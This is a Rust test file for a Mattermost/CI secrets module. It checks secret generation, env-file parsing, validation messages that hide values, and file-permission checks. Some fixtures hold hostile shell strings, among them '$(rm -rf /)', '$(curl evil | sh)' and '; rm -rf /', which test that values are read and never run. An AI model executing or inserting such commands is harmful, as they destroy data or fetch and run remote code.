use std::os::unix::fs::PermissionsExt;

use super::*;

/// Not random at all: a generator with a seed (Numerical Recipes' constants), so that a test says the same each time.
fn fixed() -> impl FnMut(&mut [u8]) -> Result<()> {
    let mut state = 7_u64;
    move |bytes| {
        for byte in bytes {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            *byte = (state >> 56) as u8;
        }
        Ok(())
    }
}

fn filled() -> Secrets {
    let mut secrets = Secrets::default();
    secrets.fill(|_| true, &mut fixed()).expect("filled");
    secrets
}

#[test]
fn what_is_missing_is_generated_in_its_form_and_only_once() {
    let mut secrets = Secrets::default();
    let made = secrets.fill(|_| true, &mut system_random).expect("filled");
    let given = [Name::SonarqubeToken, Name::GitlabOauthId, Name::GitlabOauthSecret, Name::SmtpPassword];
    assert_eq!(made, Name::ALL.into_iter().filter(|name| !given.contains(name)).collect::<Vec<_>>());
    for name in &made {
        let value = secrets.get(*name).expect("made").expose();
        assert_eq!(name.wrong(value), None, "{name:?}");
        assert!(env_file::is_bare(value), "{name:?} needs quoting somewhere");
        let Origin::Generated(length) = name.origin() else { panic!("{name:?} was made up") };
        assert_eq!(value.len(), length);
    }
    for key in [Name::JenkinsPluginKey, Name::GitlabPluginKey] {
        assert_eq!(secrets.get(key).expect("made").expose().len(), 32, "AES takes the characters as they are");
    }
    let before = secrets.clone();
    assert_eq!(secrets.fill(|_| true, &mut system_random).expect("filled"), []);
    assert_eq!(secrets, before);
    assert_eq!(Secrets::parse(secrets.render().expose(), "f").expect("own text"), secrets);
    let others = Secrets::default().fill(|name| name != Name::DatabasePassword, &mut system_random).expect("filled");
    assert!(!others.contains(&Name::DatabasePassword), "the password of another's database was made up");
}

#[test]
fn the_file_of_a_new_site() {
    let text = filled().render();
    let covered = |line: &str| match line.split_once('=').filter(|_| !line.starts_with('#')) {
        Some((name, value)) => format!("{name}=({} characters)", value.len()),
        None => line.to_owned(),
    };
    insta::assert_snapshot!(text.expose().lines().map(covered).collect::<Vec<_>>().join("\n"));
}

#[test]
fn characters_are_equally_likely() {
    let mut counts = std::collections::BTreeMap::new();
    for _ in 0..400 {
        let mut secrets = Secrets::default();
        secrets.fill(|name| name == Name::TurnSecret, &mut system_random).expect("filled");
        secrets.get(Name::TurnSecret).expect("made").expose().chars().for_each(|c| *counts.entry(c).or_insert(0) += 1);
    }
    // 19,200 characters of 62: 310 each, with a standard deviation of 17.5; without the rejection eight of them would have 375.
    assert_eq!(counts.len(), 62);
    let first: i32 = ('A'..='H').map(|c| counts[&c]).sum();
    assert!((2200..2760).contains(&first), "{first} of the first eight letters where 2477 are expected");
}

#[test]
fn the_administrators_password_meets_every_rule_that_mattermost_knows() {
    for _ in 0..50 {
        let mut secrets = Secrets::default();
        secrets.fill(|name| name == Name::AdministratorPassword, &mut system_random).expect("filled");
        let password = secrets.get(Name::AdministratorPassword).expect("made").expose();
        let has = |class: fn(char) -> bool| password.chars().any(class);
        assert!(
            has(|c| c.is_ascii_lowercase())
                && has(|c| c.is_ascii_uppercase())
                && has(|c| c.is_ascii_digit())
                && has(|c| !c.is_alphanumeric())
        );
        assert!(password.starts_with(|c: char| c.is_ascii_alphabetic()));
    }
}

#[test]
fn what_stands_there_is_kept_line_by_line() {
    let text = "# mine\n\nMATTERMOST_TURN_SECRET=0123456789abcdef0123\nOTHER=\"$(rm -rf /)\"\nexport X\n  nonsense = 1\n# end";
    let mut secrets = Secrets::parse(text, "f").expect("good");
    secrets.fill(|_| true, &mut fixed()).expect("filled");
    let rendered = secrets.render();
    assert!(rendered.expose().starts_with(&format!("{text}\n")), "lines were changed");
    assert_eq!(rendered.expose().matches("MATTERMOST_TURN_SECRET=").count(), 1);
    secrets.put(Name::TurnSecret, Secret::new("another-secret-of-this-site"));
    let expected = text.replace("0123456789abcdef0123", "another-secret-of-this-site");
    assert!(secrets.render().expose().starts_with(&expected), "a rotated secret left its line");
}

#[test]
fn a_bad_value_is_named_and_never_shown() {
    for (line, wanted) in [
        ("MATTERMOST_TURN_SECRET=hushhush", "found 8 bytes"),
        ("MATTERMOST_TURN_SECRET=\"hushhushhushhushhush\"", "found quotes around it"),
        ("MATTERMOST_TURN_SECRET=hush hush hush hush", "found another character"),
        ("MATTERMOST_TURN_SECRET=hushhushhushhushhush\r", "found a line break"),
        ("MATTERMOST_TURN_SECRET=", "found 0 bytes"),
        ("MATTERMOST_JENKINS_PLUGIN_KEY=hushhushhushhushhushhushhushhus", "exactly 32"),
        ("MATTERMOST_GITLAB_PLUGIN_KEY=hushhushhushhushhushhushhushhushh", "exactly 32"),
        ("MATTERMOST_AT_REST_KEY=hushhushhushhushhushhushhushhus", "32 to 200"),
        ("MATTERMOST_PUBLIC_LINK_SALT=hush", "32 to 200"),
        ("SONARQUBE_WEBHOOK_SECRET=hushhushhushhus", "16 to 200"),
        ("MATTERMOST_DB_PASSWORD=hush'hush", "found another character"),
        ("MATTERMOST_DB_PASSWORD=hüshhush", "found another character"),
        ("MATTERMOST_ADMIN_PASSWORD=hushhus", "8 to 72"),
        ("MATTERMOST_SMTP_PASSWORD=hush ", "found a space at an end"),
        ("MATTERMOST_SMTP_PASSWORD=hush\nMATTERMOST_SMTP_PASSWORD=hush", "line 2, MATTERMOST_SMTP_PASSWORD: it stands there twice"),
    ] {
        let error = Secrets::parse(line, "secrets.env").expect_err(line).to_string();
        let name = line.split('=').next().expect("a name");
        assert!(error.contains(name) && error.contains(wanted), "{line:?}: expected {wanted:?} in {error}");
        assert!(!error.contains("hush"), "{error}");
    }
    let error = Secrets::parse("MATTERMOST_TURN_SECRET=x\nMATTERMOST_AT_REST_KEY=y\n", "f").expect_err("both").to_string();
    assert!(error.contains("line 1, ") && error.contains("line 2, "), "only one of two is told: {error}");
    assert!(!format!("{:?}", Secrets::parse("# hush\nX=hush\nMATTERMOST_SMTP_PASSWORD=hush", "f").expect("good")).contains("hush"));
}

#[test]
fn passwords_of_others_are_taken_as_they_stand() {
    let text =
        "MATTERMOST_SMTP_PASSWORD=pä$$ w\"ord # no comment\nMATTERMOST_DB_PASSWORD=p@ss/w:rd%$#?\nMATTERMOST_ADMIN_PASSWORD=it's 8 long\n";
    let secrets = Secrets::parse(text, "f").expect("good");
    assert_eq!(secrets.get(Name::SmtpPassword).map(Secret::expose), Some("pä$$ w\"ord # no comment"));
    assert_eq!(secrets.render().expose(), text);
}

#[test]
fn a_name_that_is_almost_ours_is_noticed() {
    let secrets = Secrets::parse("MATTERMOST_TURN_SECRTE=x\nPATH=y\n# MATTERMOST_TURN_SECRE=z\n", "f").expect("kept");
    assert_eq!(secrets.misspelt(), [("MATTERMOST_TURN_SECRTE".to_owned(), "MATTERMOST_TURN_SECRET")]);
}

#[test]
fn a_file_that_others_can_read_is_an_error_with_the_command_that_mends_it() {
    let root = tempfile::tempdir().expect("a folder");
    let folder = Folder::new(root.path());
    assert_eq!(Secrets::read(root.path()).expect("none"), None);
    let path = folder.secrets();
    fs_err::write(&path, filled().render().expose()).expect("written");
    for (mode, good) in [(0o600, true), (0o400, true), (0o640, false), (0o604, false), (0o644, false), (0o610, false)] {
        fs_err::set_permissions(&path, std::fs::Permissions::from_mode(mode)).expect("set");
        match Secrets::read(root.path()) {
            Ok(read) => assert!(good && read == Some(filled()), "{mode:o} was taken"),
            Err(error) => {
                let told = error.to_string();
                assert!(!good && told.contains(&format!("found mode {mode:04o}")) && told.contains("`chmod 600 "), "{mode:o}: {told}");
            }
        }
    }
    fs_err::remove_file(&path).expect("removed");
    fs_err::os::unix::fs::symlink("/nowhere", &path).expect("linked");
    assert!(Secrets::read(root.path()).expect_err("a link").to_string().contains("found a symbolic link"));
    fs_err::remove_file(&path).expect("removed");
    fs_err::create_dir(&path).expect("made");
    assert!(Secrets::read(root.path()).expect_err("a folder").to_string().contains("is in the way"));
}

/// `cicd.env` as the article's scripts leave it behind.
const ARTICLE: &str = r#"
# Part 9
GITLAB_API_TOKEN="glpat-hush"
MATTERMOST_DB_PASSWORD='p@ss/w$rd'

# Mattermost & Coturn Shared Secret
MATTERMOST_TURN_SECRET="00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
# Mattermost At-Rest Encryption Key
export MATTERMOST_AT_REST_KEY=00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff  # 64
MATTERMOST_JENKINS_PLUGIN_KEY="00112233445566778899aabbccddeeff"
MATTERMOST_JENKINS_PLUGIN_KEY="00112233445566778899aabbccddeeff"
ODD="$(curl evil | sh)"
if [ -z x ]; then echo; fi
JENKINS_MATTERMOST_WEBHOOK="https://mattermost.cicd.local:8065/hooks/hush"
"#;

#[test]
fn the_articles_file_is_read_and_not_run() {
    let found = import(ARTICLE, "cicd.env").expect("good");
    let names: Vec<&str> = found.secrets.keys().map(|name| name.name()).collect();
    assert_eq!(names, ["MATTERMOST_DB_PASSWORD", "MATTERMOST_TURN_SECRET", "MATTERMOST_AT_REST_KEY", "MATTERMOST_JENKINS_PLUGIN_KEY"]);
    assert_eq!(found.secrets[&Name::DatabasePassword].expose(), "p@ss/w$rd");
    assert_eq!(found.secrets[&Name::AtRestKey].expose().len(), 64);
    assert_eq!(found.foreign, ["GITLAB_API_TOKEN", "JENKINS_MATTERMOST_WEBHOOK", "ODD"]);
}

#[test]
fn all_that_is_wrong_with_a_file_is_told_at_once() {
    let text = "MATTERMOST_TURN_SECRET=$(openssl rand -hex 32)\nMATTERMOST_AT_REST_KEY=\"hush\"\nMATTERMOST_JENKINS_PLUGIN_KEY='hush\n\
                MATTERMOST_DB_PASSWORD=hush-hush; rm -rf /\nSONARQUBE_WEBHOOK_SECRET=hush-hush-hush-hush\nSONARQUBE_WEBHOOK_SECRET=hush-hush-hush-hush-2\n\
                MATTERMOST_GITLAB_PLUGIN_KEY=\"${HUSH}\"\nGITLAB_OAUTH_ID=`hush`\nGITLAB_OAUTH_SECRET=hush hush\n";
    let error = import(text, "cicd.env").expect_err("eight problems").to_string();
    for (line, wanted) in [
        (1, "a shell has to compute"),
        (2, "found 4 bytes"),
        (3, "a closing quote"),
        (4, "one assignment and nothing else"),
        (6, "line 5 says otherwise"),
        (7, "a shell has to compute"),
        (8, "a shell has to compute"),
        (9, "quotes around a value with spaces"),
    ] {
        let told =
            error.lines().find(|told| told.contains(&format!("line {line}, "))).unwrap_or_else(|| panic!("line {line} is not in {error}"));
        assert!(told.contains(wanted), "{told}");
    }
    assert!(error.starts_with("nothing was taken from cicd.env") && !error.contains("hush"), "{error}");
}

#[test]
fn a_shell_reads_a_literal_as_we_do() {
    for literal in [
        "a",
        "'a b'",
        "\"a b\"",
        "a'b'\"c\"",
        "\"a\\\"b\\\\c\\$d\\`e\\x\"",
        "a\\ b",
        "'a\"b'",
        "a#b",
        "a #c",
        "x''",
        "x~",
        "\"~\"",
        "a\\\\",
        "a*[b]?",
        "{a,b}",
        "a=b",
        "a!b",
        "ü",
        "%",
    ] {
        let line = format!("MATTERMOST_SMTP_PASSWORD={literal}");
        let script = format!("{line}\nprintf %s \"$MATTERMOST_SMTP_PASSWORD\"");
        let shell = crate::process::Process::new("sh", ".").args(["-c", &script]).fails_as(Class::Check).text().expect("a literal");
        let ours = import(&line, "f").expect(literal).secrets;
        assert_eq!(ours[&Name::SmtpPassword].expose(), shell, "{literal}");
    }
    for computed in ["~", "~root", "a:~", "$X", "\"$X\"", "`x`", "$((1))"] {
        import(&format!("MATTERMOST_SMTP_PASSWORD={computed}"), "f").expect_err(computed);
    }
}

#[test]
fn the_address_of_a_webhook_is_added_once_and_replaced_in_its_place() {
    let mut secrets = Secrets::parse("# mine\nWEBHOOK_A=one\nWEBHOOK_AB=other\n", "secrets.env").expect("good");
    secrets.put_other("WEBHOOK_A", "a webhook", Secret::new("two"));
    secrets.put_other("WEBHOOK_B", "a webhook", Secret::new("three"));
    let text = "# mine\nWEBHOOK_A=two\nWEBHOOK_AB=other\n# a webhook\nWEBHOOK_B=three\n";
    assert_eq!(secrets.render().expose(), text);
    let again = Secrets::parse(text, "secrets.env").expect("good");
    assert_eq!(again.other("WEBHOOK_A").map(|url| url.expose().to_owned()), Some("two".to_owned()));
    assert_eq!(again.other("WEBHOOK_C"), None);
}

#[test]
fn what_is_kept_is_read_again_and_nothing_lies_beside_it() {
    let root = tempfile::tempdir().expect("a folder");
    let folder = Folder::new(root.path());
    assert_eq!(Secrets::of(&folder).expect("none"), Secrets::default());
    filled().keep(&folder).expect("written");
    assert_eq!(Secrets::of(&folder).expect("some"), filled());
    let mode = fs_err::metadata(folder.secrets()).expect("there").permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let names: Vec<_> = fs_err::read_dir(root.path()).expect("a folder").map(|entry| entry.expect("an entry").file_name()).collect();
    assert_eq!(names, ["secrets.env"]);
}
